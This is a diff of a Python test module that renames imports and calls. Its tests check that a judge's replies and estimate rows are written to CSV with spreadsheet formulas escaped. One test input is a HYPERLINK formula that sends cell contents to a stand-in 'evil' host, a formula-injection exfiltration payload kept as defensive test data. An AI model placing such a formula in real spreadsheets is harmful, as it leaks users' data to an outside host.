@@ -11,11 +11,10 @@ import pyarrow as pa
 import pytest
 
 from needlework.atomic import inert, write_csv
-from needlework.models.estimates import Estimate
-from needlework.models.estimates import write_csv as write_estimates
+from needlework.models.estimates import WorkRow, save_estimates
 from needlework.planning.layout import ROOT
 from needlework.records import GENERATIONS
-from needlework.results.page import judge
+from needlework.results.numbers import judge_verdicts
 
 LIVE = [
     '=HYPERLINK("http://evil/?"&A1,"CORRECT")',
@@ -55,13 +54,13 @@ def test_a_judges_reply_is_no_formula() -> None:
     keys = {"judged_benchmark": ["m"], "model": ["m"], "judged": ["x"], "judged_sample": [0]}
     reply = dict.fromkeys(GENERATIONS.names) | {"instance_id": "a", "text": LIVE[0]}
     replies = pa.Table.from_pylist([reply | {"finish_reason": "stop"}], schema=GENERATIONS)
-    found = judge.verdicts(pa.table({"instance_id": ["a"], **keys}), replies)
+    found = judge_verdicts.verdicts(pa.table({"instance_id": ["a"], **keys}), replies)
     assert found["reply"].tolist() == [f"'{LIVE[0]}"]
 
 
 def test_estimates_hold_no_formula(tmp_path: Path) -> None:
-    names = Estimate.__dataclass_fields__
-    write_estimates([Estimate(**dict.fromkeys(names, "=1+1"))], tmp_path / "a.csv")
+    names = WorkRow.__dataclass_fields__
+    save_estimates([WorkRow(**dict.fromkeys(names, "=1+1"))], tmp_path / "a.csv")
     rows = (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()
     assert set(rows[1].split(",")) == {"'=1+1"}
 
